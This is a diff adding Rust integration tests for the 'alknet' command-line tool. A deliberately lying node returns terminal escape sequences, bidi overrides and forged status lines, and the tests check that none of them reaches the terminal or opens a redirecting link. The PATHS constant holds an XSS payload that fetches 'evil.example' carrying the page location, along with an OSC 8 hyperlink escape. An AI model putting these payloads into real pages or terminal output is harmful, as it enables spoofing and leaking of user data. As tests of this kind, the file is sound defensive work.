@@ -1,0 +1,458 @@
+//! A node that answers its users with what is to act on their terminals and browsers.
+
+use std::net::Ipv4Addr;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+
+use alknet_call::{
+    CallBody, CallError, CallHandler, Ctx, Dispatcher, ErrorCode, HandlerKind, OperationSpec,
+    Registration, Registry,
+};
+use alknet_core::{
+    AlpnSpec, AuthContext, AuthNeed, BoxFuture, Connection, HandlerError, HandlerRegistry,
+    Identities, IdentityEntries, PeerKey, ProtocolHandler, SystemClock,
+};
+use alknet_endpoint::{EndpointServer, ServerOptions};
+use alknet_hub::{EnrolToken, JoinCode};
+use alknet_tests::{CliOutput, CliRunner, binary, run_with_input};
+use alknet_tls::NodeKey;
+use serde_json::{Value, json};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::task::block_in_place;
+
+/// Clears the screen, sets a title, forges a line, erases one, turns the direction, and does the first again in
+/// one character of eight bits.
+const ACTS: &str = "x\u{1b}[2J\u{1b}]0;title\u{7}\r\nhealth     ok\u{8}\u{202e}\u{9b}2J\u{7f}";
+
+/// What leads a browser elsewhere, or has it run a script in a page of the user's own computer.
+const PATHS: [&str; 5] = [
+    "@evil.example/status/enter/0123456789abcdef0123456789abcdef0123456789a",
+    ".evil.example/",
+    "/status/enter/\"><script>fetch('//evil.example/'+document.location)</script>",
+    "/status/enter/0123456789abcdef\u{1b}]8;;https://evil.example\u{7}",
+    "",
+];
+
+/// A protocol in which each request is a length of 32 bits and JSON, and is answered so.
+struct ScriptedProtocol {
+    alpns: [AlpnSpec; 1],
+    /// One after the other, and the last one from then on.
+    answers: Vec<Value>,
+    asked: AtomicUsize,
+}
+
+impl ScriptedProtocol {
+    fn to(alpn: &'static [u8], answers: Vec<Value>) -> Arc<Self> {
+        Arc::new(Self {
+            alpns: [AlpnSpec {
+                auth: AuthNeed::Open,
+                ..AlpnSpec::new(alpn)
+            }],
+            answers,
+            asked: AtomicUsize::new(0),
+        })
+    }
+
+    async fn answer(&self, connection: &Connection) -> std::io::Result<()> {
+        let (mut send, mut recv) = connection.accept_bi().await?;
+        let len = recv.read_u32().await?;
+        recv.read_exact(&mut vec![0; len as usize]).await?;
+        let n = self.asked.fetch_add(1, Ordering::SeqCst);
+        let answer = self.answers[n.min(self.answers.len() - 1)].to_string();
+        send.write_u32(answer.len() as u32).await?;
+        send.write_all(answer.as_bytes()).await?;
+        send.flush().await?;
+        send.finish()?;
+        connection.closed().await;
+        Ok(())
+    }
+}
+
+impl ProtocolHandler for ScriptedProtocol {
+    fn alpns(&self) -> &[AlpnSpec] {
+        &self.alpns
+    }
+
+    fn handle(
+        self: Arc<Self>,
+        connection: Connection,
+        _: AuthContext,
+    ) -> BoxFuture<'static, Result<(), HandlerError>> {
+        Box::pin(async move {
+            let answered = self.answer(&connection).await;
+            answered.map_err(|_| HandlerError::Closed)
+        })
+    }
+}
+
+/// Takes another key in the place of that of the connection.
+fn rotates(hub: PeerKey) -> Registration {
+    let spec = OperationSpec::query("peer/rotate-key", ACTS);
+    let handler = HandlerKind::once(move |input: CallBody, ctx: Ctx| {
+        let answer = match input.value()["new_key"].is_string() {
+            true => json!({ "peer_id": ACTS, "old_key_ends": ACTS }),
+            false => json!({ "peer_id": "edge", "hub": hub, "old_key": ctx.conn().key,
+                             "time": 2_000_000_000 }),
+        };
+        std::future::ready(Ok::<_, CallError>(answer))
+    });
+    Registration::new(spec, handler)
+}
+
+struct LyingNode {
+    server: EndpointServer,
+    key: NodeKey,
+}
+
+impl LyingNode {
+    fn start(path: &'static str) -> Self {
+        let says = |name: &str, said: Value| {
+            let spec = OperationSpec::query(name, ACTS);
+            let handler =
+                HandlerKind::once(move |_, _| std::future::ready(Ok::<_, CallError>(said.clone())));
+            Registration::new(spec, handler)
+        };
+        let refuses = HandlerKind::once(|_, _| async {
+            Err::<Value, _>(CallError::new(ErrorCode::Conflict, ACTS).with_details(json!([ACTS])))
+        });
+        let finds_mistakes = HandlerKind::once(|_, _| async {
+            let error = CallError::new(ErrorCode::InvalidInput, ACTS);
+            Err::<Value, _>(error.with_details(json!({ "errors": [ACTS] })))
+        });
+        let follows = HandlerKind::stream(|_, _| {
+            let record = json!({ "time": ACTS, "level": ACTS, "target": ACTS, "message": ACTS });
+            futures_util::stream::iter([Ok::<_, CallError>(record)])
+        });
+        let problem = json!({ "code": ACTS, "text": ACTS, "hint": ACTS });
+        let info = json!({
+            "name": ACTS, "identity": ACTS, "version": ACTS, "kernel": ACTS, "addresses": [ACTS],
+            "listen": { "alpns": [ACTS], "port": 443 }, "data": { "mode": ACTS }, "clock": ACTS,
+            "uptime_ms": 1, "problems": [problem],
+        });
+        let peers = json!({ "peers": [{
+            "peer_id": ACTS, "name": ACTS, "key": ACTS, "kind": ACTS, "source": ACTS,
+            "display_name": ACTS,
+        }] });
+        let script = json!({
+            "value": { "said": ACTS }, "shown": ACTS, "console": [{ "level": "log", "text": ACTS }],
+        });
+        let link = json!({ "path": path, "ticket": "", "expires_in": 60, "names": [ACTS] });
+        let token = json!({
+            "key_id": ACTS, "holder": ACTS, "source": ACTS, "scopes": [ACTS], "expires": ACTS,
+            "last_used": ACTS, "created_by": ACTS, "note": ACTS,
+        });
+        let of_hub = json!({
+            "peers": [{ "name": ACTS, "state": ACTS, "peer_id": ACTS, "labels": { ACTS: ACTS } }],
+            "waiting": [{ "name": ACTS, "addr": ACTS, "fingerprint": ACTS }],
+            "invitations": [{ "key_id": ACTS, "left": 1, "role": ACTS, "expires": ACTS }],
+        });
+        let share = json!({
+            "id": ACTS, "name": ACTS, "state": ACTS, "released": ACTS, "releases": 1, "from": [ACTS],
+        });
+        let peer = json!({ "peer_id": ACTS, "name": format!("{ACTS}2"), "closed": [ACTS] });
+        let invitation = json!({ "join": ACTS, "role": ACTS, "expires": ACTS, "count": 1 });
+        let made = json!({ "token": ACTS, "key_id": ACTS, "expires": ACTS, "scopes": [ACTS] });
+        let kept = json!({ "id": ACTS, "name": ACTS });
+        let proposal = json!({ "id": ACTS, "state": ACTS, "author": ACTS, "name": ACTS });
+        let reviewed = json!({
+            "proposal": proposal, ACTS: ACTS, "grants": [{ "text": ACTS }],
+            "report": { "cases": [{ "name": ACTS, "passed": true, "fuel": 1 }] },
+            "versions": [{ "version": 1, "id": ACTS, "generation": 1 }],
+            "record": [{ "who": ACTS, "did": ACTS, "note": ACTS }], "difference": ACTS,
+        });
+        let key = NodeKey::generate().expect("a key");
+        let registry = Registry::builder()
+            .with(rotates(key.public()))
+            .with(says("hub/invite", invitation))
+            .with(says("hub/peers/approve", peer.clone()))
+            .with(says("hub/peers/label", peer.clone()))
+            .with(says("hub/peers/remove", peer))
+            .with(says("token/make", made.clone()))
+            .with(says("token/revoke", made))
+            .with(says("ops/propose", reviewed.clone()))
+            .with(says("ops/promote", reviewed.clone()))
+            .with(says("ops/rollback", reviewed.clone()))
+            .with(says("ops/proposals", json!({ "proposals": [proposal] })))
+            .with(says("escrow/approve", kept.clone()))
+            .with(says("escrow/change", kept.clone()))
+            .with(says("escrow/revoke", kept))
+            .with(says("vault/lock", json!({ "state": ACTS, "hard": ACTS })))
+            .with(says("token/list", json!({ "tokens": [token] })))
+            .with(says("hub/peers", of_hub))
+            .with(says("escrow/list", json!({ "shares": [share] })))
+            .with(Registration::new(
+                OperationSpec::query("config/apply", ACTS),
+                finds_mistakes,
+            ))
+            .with(says("node/info", info))
+            .with(says("node/page-ticket", link))
+            .with(says("peer/list", peers))
+            .with(says("runtime/eval", script))
+            .with(says(
+                "vault/status",
+                json!({ "state": ACTS, "slots": [ACTS] }),
+            ))
+            .with(Registration::new(
+                OperationSpec::query("evil/refused", ACTS),
+                refuses,
+            ))
+            .with(Registration::new(
+                OperationSpec::subscription("node/log", ACTS),
+                follows,
+            ))
+            .build()
+            .expect("every rule is kept");
+        let handler = CallHandler::new(Arc::new(Dispatcher::new(registry)));
+        let mut handlers = HandlerRegistry::new();
+        handlers.register(Arc::new(handler)).expect("the only one");
+        let refused = json!({ "error": { "code": ACTS, "message": ACTS, "retryable": false } });
+        let hub = json!({ "key": key.public(), "names": [ACTS] });
+        let taken = json!({ "peer_id": "edge", "name": ACTS, "hub": hub });
+        // As people see it and as JSON.
+        let answers = vec![refused.clone(), refused, taken];
+        let enrols = ScriptedProtocol::to(b"alknet/enroll", answers);
+        handlers.register(enrols).expect("another");
+        let stores = json!({ "ok": false, "code": ACTS, "msg": ACTS });
+        let stores = ScriptedProtocol::to(b"alknet/tensor", vec![stores]);
+        handlers.register(stores).expect("a third");
+        let clock = Arc::new(SystemClock { built_s: 0 });
+        let known = Arc::new(Identities::new(IdentityEntries::default(), clock));
+        let options = ServerOptions {
+            port: 0,
+            ..ServerOptions::default()
+        };
+        let server = EndpointServer::bind(options, &key, handlers, known).expect("a free port");
+        Self { server, key }
+    }
+
+    fn target(&self) -> String {
+        format!(
+            "{}@{}:{}",
+            self.key.public(),
+            Ipv4Addr::LOCALHOST,
+            self.server.port()
+        )
+    }
+}
+
+impl LyingNode {
+    /// What leads to it as to a hub.
+    fn join(&self) -> String {
+        let PeerKey::Ed25519(hub) = self.key.public() else {
+            panic!("the key of a node is of this kind");
+        };
+        let address = format!("{}:{}", Ipv4Addr::LOCALHOST, self.server.port());
+        let code = JoinCode {
+            addresses: vec![address.parse().expect("an address")],
+            hub,
+            token: EnrolToken::generate().expect("the system has entropy"),
+            expires: 4_000_000_000,
+            role: "worker".parse().expect("a role"),
+        };
+        code.encode().expect("it is short")
+    }
+}
+
+/// Runs a command beside the node in this process.
+async fn run(cli: &CliRunner, mut arguments: Vec<String>) -> CliOutput {
+    arguments.push("--state".to_owned());
+    arguments.push(cli.state().display().to_string());
+    run_alone(arguments).await
+}
+
+/// The same for verbs that ask no node.
+async fn run_alone(arguments: Vec<String>) -> CliOutput {
+    let run = move || {
+        let mut command = Command::new(binary());
+        command.args(arguments);
+        // What scripts are read from.
+        run_with_input(command, "1\n")
+    };
+    tokio::task::spawn_blocking(run).await.expect("it runs")
+}
+
+fn acts(text: &str) -> bool {
+    let turns = |c: char| {
+        let marks = ['\u{61c}', '\u{200e}', '\u{200f}'];
+        marks.contains(&c) || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+    };
+    text.chars()
+        .any(|c| (c.is_control() && c != '\n') || turns(c))
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn nothing_that_a_node_says_acts_on_a_terminal() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let node = LyingNode::start(PATHS[0]);
+    let (target, join) = (node.target(), node.join());
+    let at = |name: &str| folder.path().join(name).display().to_string();
+    let (document, batch, draft) = (at("document.toml"), at("batch"), proposal(folder.path()));
+    std::fs::write(&document, "").expect("the folder is ours");
+    let calls = ["node/info", "evil/refused"].map(|name| format!("{{\"operation\":\"{name}\"}}\n"));
+    std::fs::write(&batch, calls.concat()).expect("the folder is ours");
+    let id = "3f".repeat(32);
+    let output = at("out.mt");
+    for (n, (arguments, says_much)) in [
+        (&["status", "@"][..], true),
+        (&["call", "@", "node/info"], true),
+        (&["call", "@", "node/log"], true),
+        (&["call", "@", "node/info", "--also", "@"], true),
+        (&["call", "@", "evil/refused"], false),
+        (&["ops", "@"], true),
+        (&["ops", "@", "node/info"], true),
+        (&["peers", "@"], true),
+        (&["js", "run", "@", "-"], true),
+        (&["js", "repl", "@"], true),
+        (&["vault", "status", "@"], true),
+        (&["token", "list", "@"], true),
+        (&["hub", "peers", "@"], true),
+        (&["escrow", "list", "@"], true),
+        (&["config", "apply", "@", "?"], true),
+        (&["open", "--print", "@"], false),
+        (&["hub", "invite", "@"], true),
+        (&["hub", "approve", "@", "a-key"], true),
+        (&["hub", "label", "@", "edge", "a=b"], true),
+        (&["hub", "remove", "@", "edge"], true),
+        (&["token", "make", "@", "--scope", "node:read"], true),
+        // What was asked for is repeated.
+        (&["token", "revoke", "@", "abcdefgh"], false),
+        (&["key", "rotate", "@"], true),
+        (&["ops", "propose", "@", "DRAFT", "--as", "ada"], true),
+        (&["ops", "proposals", "@"], true),
+        (&["ops", "promote", "@", "ID"], true),
+        (&["ops", "rollback", "@", "js/a/b"], true),
+        (&["escrow", "approve", "@", "share"], true),
+        (&["escrow", "change", "@", "share", "--anywhere"], true),
+        (&["escrow", "revoke", "@", "share"], true),
+        (&["call", "@", "--batch", "BATCH"], true),
+        (&["tensor", "pull", "@", "models/bert", "OUTPUT"], true),
+        (&["vault", "lock", "@"], true),
+        // Refused, and taken in.
+        (&["enroll", "JOIN"], true),
+        (&["enroll", "JOIN"], true),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        for json in [false, true] {
+            // Each with a key of its own: one verb replaces it.
+            let cli = CliRunner::new(folder.path().join(format!("{n}-{json}")));
+            if arguments[0] == "key" {
+                // There has to be one to replace.
+                block_in_place(|| cli.identity());
+            }
+            let said = |one: &&str| match *one {
+                "BATCH" => batch.clone(),
+                "DRAFT" => draft.display().to_string(),
+                "ID" => id.clone(),
+                "JOIN" => join.clone(),
+                "OUTPUT" => output.clone(),
+                one => one.replace('@', &target).replace('?', &document),
+            };
+            let mut all: Vec<_> = arguments.iter().map(said).collect();
+            if json {
+                all.insert(0, "--json".to_owned());
+            }
+            let answer = run(&cli, all).await;
+            let (said, failed) = (&answer.output, &answer.errors);
+            assert!(!acts(said) && !acts(failed), "{arguments:?}: {answer:?}");
+            // It was asked, and answered.
+            let shown = format!("{said}{failed}");
+            assert!(
+                shown.contains("title") || !says_much,
+                "{arguments:?}: {answer:?}"
+            );
+            let forged = shown
+                .lines()
+                .any(|line| line.trim_start() == "health     ok");
+            assert!(!forged, "{arguments:?}: {answer:?}");
+        }
+    }
+}
+
+/// A folder that can be proposed.
+fn proposal(folder: &Path) -> PathBuf {
+    let draft = folder.join("draft");
+    let operation = json!({
+        "spec": { "name": "one", "kind": "query" }, "entry": "./main.js", "export": "run",
+        "tests": [{ "input": 1, "expect": { "output": 1 } }],
+    });
+    std::fs::create_dir(&draft).expect("the folder is ours");
+    std::fs::write(draft.join("operation.json"), operation.to_string()).expect("room");
+    std::fs::write(draft.join("main.js"), "export const run = () => 1;").expect("room");
+    draft
+}
+
+/// What was fetched from a node may be anything that a container can say.
+#[tokio::test(flavor = "multi_thread")]
+async fn nothing_in_a_file_of_tensors_acts_on_a_terminal() {
+    let folder = tempfile::tempdir().expect("a folder");
+    // No name has a control character: no reader takes such a file.
+    let name = "title\u{202e}\u{2066}\u{200f}\u{2028}";
+    let container = |said: &str, name: &str| {
+        let tensor = json!({ "dtype": "U8", "shape": [2], "data_offsets": [0, 2] });
+        let mut header = json!({ "__metadata__": { "said": said }, name: tensor }).to_string();
+        while !header.len().is_multiple_of(8) {
+            header.push(' ');
+        }
+        let mut bytes = (header.len() as u64).to_le_bytes().to_vec();
+        bytes.extend(header.as_bytes());
+        bytes.extend([7, 8]);
+        bytes
+    };
+    let [first, second] = [("first", ACTS), ("second", "title")].map(|(file, said)| {
+        let file = folder.path().join(format!("{file}.safetensors"));
+        let ending = if said == ACTS { "" } else { said };
+        let bytes = container(said, &format!("{name}{ending}"));
+        std::fs::write(&file, bytes).expect("the folder is ours");
+        file.display().to_string()
+    });
+    for verb in [
+        &["ls", "1"][..],
+        &["hash", "1"],
+        &["diff", "1", "2"],
+        &["verify", "1"],
+        &["cat", "1", "title"],
+        &["cat", "1", name],
+    ] {
+        for json in [false, true] {
+            let mut all = vec!["tensor".to_owned()];
+            all.extend(verb.iter().map(|word| match *word {
+                "1" => first.clone(),
+                "2" => second.clone(),
+                word => word.to_owned(),
+            }));
+            if json {
+                all.insert(0, "--json".to_owned());
+            }
+            let answer = run_alone(all).await;
+            let (said, failed) = (&answer.output, &answer.errors);
+            let is_bytes = verb == ["cat", "1", name] && !json;
+            assert!(is_bytes || !acts(said), "{verb:?}: {answer:?}");
+            assert!(!acts(failed), "{verb:?}: {answer:?}");
+            let shows = !is_bytes && verb[0] != "verify";
+            assert!(
+                !shows || format!("{said}{failed}").contains("title"),
+                "{verb:?}: {answer:?}"
+            );
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_link_that_leads_elsewhere_is_not_opened() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let cli = CliRunner::new(folder.path().to_owned());
+    for path in PATHS {
+        let node = LyingNode::start(path);
+        for more in [&[][..], &["--action", "lock"]] {
+            let mut all = vec!["open".to_owned(), "--print".to_owned(), node.target()];
+            all.extend(more.iter().map(|one| (*one).to_owned()));
+            let answer = run(&cli, all).await;
+            assert_ne!(answer.status, 0, "{path:?}: {answer:?}");
+            assert!(answer.output.is_empty(), "{path:?}: {answer:?}");
+        }
+    }
+}
